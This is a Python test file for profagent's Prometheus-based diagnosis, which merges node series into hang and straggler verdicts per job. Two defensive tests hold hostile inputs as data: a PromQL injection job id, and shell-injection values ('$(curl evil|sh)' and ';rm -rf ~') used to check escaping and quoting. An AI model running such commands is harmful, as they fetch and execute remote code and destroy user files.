"""`diagnose --prometheus`: one verdict per job from every node's series (pure part)."""

from __future__ import annotations

import pytest

from profagent.cli.prometheus import NO_CULPRIT, queries, query_url, verdict
from profagent.errors import UserError


def _finding(instance: str, job: str, rank: str, finding: str = "hang", severity: str = "critical") -> dict[str, str]:
    labels = {"instance": instance, "job": "profagent", "job_id": job, "finding": finding, "severity": severity, "__value__": "1"}
    return {**labels, "rank": rank} if rank else labels  # Prometheus drops empty labels


def _role(instance: str, job: str, rank: str, role: str, location: str, diagnosis: str) -> dict[str, str]:
    return {"instance": instance, "job_id": job, "rank": rank, "hang_role": role, "location": location,
            "diagnosis": diagnosis, "__value__": "1"}


def test_a_hang_over_two_nodes_is_one_finding_naming_the_culprit_and_its_node() -> None:
    findings = [_finding("n0:19400", "j2", ""), _finding("n1:19400", "j2", "3"),
                _finding("n1:19400", "j2", "2", "straggler", "warning")]
    roles = [_role("n0:19400", "j2", "0", "waiting", "train_ddp.py:110", "all_waiting"),
             _role("n0:19400", "j2", "1", "waiting", "train_ddp.py:110", "all_waiting"),
             _role("n1:19400", "j2", "2", "waiting", "train_ddp.py:110", "culprit"),
             _role("n1:19400", "j2", "3", "culprit", "train_ddp.py:104", "culprit")]
    since = [{"instance": "n0:19400", "job_id": "j2", "finding": "hang", "__value__": "1000"},
             {"instance": "n1:19400", "job_id": "j2", "rank": "3", "finding": "hang", "__value__": "1003.5"}]
    body = verdict(findings, roles, since, now=1100.0)
    hang, straggler = body["findings"]
    assert (hang["finding"], hang["job_id"], hang["severity"], hang["rank"]) == ("hang", "j2", "critical", "3")
    assert hang["culprit_ranks"] == ["3"]
    assert hang["culprits"] == [{"rank": "3", "instance": "n1:19400", "location": "train_ddp.py:104"}]
    assert hang["since"] == 1000.0  # the first node that saw it
    assert hang["summary"] == ("rank 3 holds the job up, not in a collective: rank 3 on n1:19400 at train_ddp.py:104; "
                               "ranks 0, 1, 2 wait in a collective")
    assert hang["evidence"]["nodes"] == ["n0:19400", "n1:19400"]
    assert (straggler["finding"], straggler["rank"], straggler["instance"], straggler["culprit_ranks"]) == \
        ("straggler", "2", "n1:19400", ["2"])
    assert straggler["since"] == 1100.0  # no since series: now


def test_no_culprit_on_any_node_says_so() -> None:
    findings = [_finding("n0:19400", "j3", ""), _finding("n1:19400", "j3", "")]
    roles = [_role("n0:19400", "j3", "0", "waiting", "t.py:1", "all_waiting"),
             _role("n1:19400", "j3", "1", "waiting", "t.py:1", "all_waiting")]
    [hang] = verdict(findings, roles, [], now=5.0)["findings"]
    assert hang["culprit_ranks"] == [] and hang["culprits"] == [] and hang["rank"] is None
    assert hang["summary"] == f"{NO_CULPRIT}; ranks 0, 1 wait in a collective"


def test_jobs_and_clusters_stay_apart() -> None:
    findings = [{**_finding("a:1", "j", "0"), "cluster": "a"}, {**_finding("b:1", "j", "0"), "cluster": "b"},
                _finding("c:1", "k", "1")]
    roles = [{**_role("a:1", "j", "0", "culprit", "x.py:1", "stuck"), "cluster": "a"}]
    out = verdict(findings, roles, [], now=0.0)["findings"]
    assert [(f.get("cluster"), f["job_id"], f["culprit_ranks"]) for f in out] == [
        ("a", "j", ["0"]), ("b", "j", []), (None, "k", [])]


def test_a_hostile_job_id_cannot_change_the_queries() -> None:
    q = queries('x"} or vector(1) or {a="')
    assert q["findings"] == 'profagent_finding{job_id="x\\"} or vector(1) or {a=\\""} == 1'
    assert queries(None)["roles"] == "profagent_hang_rank_info"
    assert query_url("http://prom:9090/mimir/prometheus/", "up") == "http://prom:9090/mimir/prometheus/api/v1/query?query=up"
    with pytest.raises(UserError):
        query_url("http://prom:notaport", "up")


def test_a_suggested_command_quotes_every_value() -> None:
    """Issue 51 low 4: a job id and an instance are any string; the printed command, pasted
    in a shell, runs profagent with them as single arguments and nothing else."""
    import shlex

    job, instance = "x $(curl evil|sh) #", "n0:19400;rm -rf ~"
    [f] = verdict([_finding(instance, job, "1", "straggler", "warning")], [], [], now=0.0)["findings"]
    command = f["evidence"]["details"]
    assert shlex.split(command) == ["profagent", "diagnose", "--url", f"http://{instance}", "--job", job]
    ordinary = verdict([_finding("n0:19400", "j2", "1", "straggler", "warning")], [], [], now=0.0)["findings"][0]
    assert ordinary["evidence"]["details"] == "profagent diagnose --url http://n0:19400 --job j2"
